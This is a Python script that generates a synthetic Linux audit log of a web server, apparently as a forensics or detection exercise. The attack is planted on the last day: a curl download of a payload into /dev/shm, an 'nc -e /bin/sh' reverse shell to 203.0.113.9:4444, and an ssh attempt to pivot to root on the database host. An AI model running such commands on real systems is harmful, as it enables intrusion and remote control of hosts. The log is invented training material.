#!/usr/bin/python3
"""Writes web-01.log: ten days of an invented web server, and what happened on the last of them.

    ./make.py | gzip -9n > web-01.log.gz

The records have the form in which Linux 6.1 writes them; the same log comes out each time.
"""
import random
import socket
import struct
import sys

BEGIN = 1_772_409_600  # Monday, 2 March 2026, 00:00 UTC
DAYS = 10
dice = random.Random(1)
events = []  # (time in ms, records)


def hexed(*words):
    return b"\0".join(word.encode() for word in words).hex().upper()


def call(number, name, exe, uid, pid, ppid, items, exit_code, key):
    okay = "yes" if exit_code >= 0 else "no"
    return (
        f"type=SYSCALL msg=audit(STAMP): arch=c000003e syscall={number} success={okay} "
        f"exit={exit_code} a0=3 a1=7ffd0 a2=10 a3=0 items={items} ppid={ppid} pid={pid} "
        f"auid=4294967295 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} "
        f'sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm="{name}" '
        f'exe="{exe}" subj=unconfined key="{key}"'
    )


def proctitle(*words):
    return f"type=PROCTITLE msg=audit(STAMP): proctitle={hexed(*words)}"


def connect(time, exe, address, port, uid, words, pid=None, ppid=1, exit_code=-115, name=None):
    packed = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port)
    saddr = (packed + socket.inet_aton(address) + bytes(8)).hex().upper()
    pid = pid or dice.randrange(2000, 60000)
    name = name or exe.rsplit("/", 1)[1][:15]
    events.append((time, [
        call(42, name, exe, uid, pid, ppid, 0, exit_code, "net"),
        f"type=SOCKADDR msg=audit(STAMP): saddr={saddr}",
        proctitle(*words),
    ]))


def execute(time, exe, uid, words, cwd, pid, ppid):
    arguments = " ".join(f'a{at}="{word}"' for at, word in enumerate(words))
    events.append((time, [
        call(59, words[0], exe, uid, pid, ppid, 2, 0, "exec"),
        f"type=EXECVE msg=audit(STAMP): argc={len(words)} {arguments}",
        f'type=CWD msg=audit(STAMP): cwd="{cwd}"',
        proctitle(*words),
    ]))


def at(day, hour, minute, second=0):
    return ((((day * 24) + hour) * 60 + minute) * 60 + second + BEGIN) * 1000 + dice.randrange(1000)


for day in range(DAYS):
    for quarter in range(96):
        hour, minute = divmod(quarter * 15, 60)
        # The application asks its database all the time, and mails now and then.
        connect(at(day, hour, minute + dice.randrange(15)), "/usr/sbin/php-fpm8.2",
                "10.0.0.5", 5432, 33, ["php-fpm: pool www"], ppid=812)
        if dice.random() < 0.12 and 7 <= hour < 22:
            connect(at(day, hour, minute + dice.randrange(15)), "/usr/lib/postfix/sbin/smtp",
                    "10.0.0.25", 25, 112, ["smtp", "-t", "unix"], ppid=940)
    for hour in range(24):
        connect(at(day, hour, 5), "/usr/bin/node_exporter", "10.0.0.9", 9091, 998,
                ["node_exporter"])
    # A backup each night, updates each morning.
    connect(at(day, 2, 15, 3), "/usr/bin/restic", "198.51.100.20", 443, 0,
            ["restic", "backup", "/srv"])
    connect(at(day, 6, 31, 40), "/usr/lib/apt/methods/http", "151.101.2.132", 80, 42,
            ["/usr/lib/apt/methods/http"])

last = DAYS - 1
shell = dict(uid=33, ppid=812)
curl = ["curl", "-s", "-o", "/dev/shm/.x", "http://203.0.113.9/x"]
execute(at(last, 3, 12, 7), "/usr/bin/curl", words=curl, cwd="/var/www/uploads", pid=41207, **shell)
connect(at(last, 3, 12, 8), "/usr/bin/curl", "203.0.113.9", 80, words=curl, pid=41207, **shell)
back = ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"]
execute(at(last, 3, 12, 31), "/usr/bin/nc.traditional", words=back, cwd="/dev/shm", pid=41213,
        **shell)
connect(at(last, 3, 12, 32), "/usr/bin/nc.traditional", "203.0.113.9", 4444, words=back, pid=41213,
        exit_code=0, name="nc", **shell)
onward = ["ssh", "-o", "BatchMode=yes", "root@10.0.0.5"]
execute(at(last, 3, 20, 50), "/usr/bin/ssh", 33, onward, "/dev/shm", pid=41260, ppid=41213)
connect(at(last, 3, 20, 51), "/usr/bin/ssh", "10.0.0.5", 22, 33, onward, pid=41260, ppid=41213)

events.sort(key=lambda event: event[0])
for serial, (time, records) in enumerate(events, 1001):
    for record in records:
        stamp = f"{time // 1000}.{time % 1000:03}:{serial}"
        sys.stdout.write("node=web-01 " + record.replace("STAMP", stamp) + "\n")
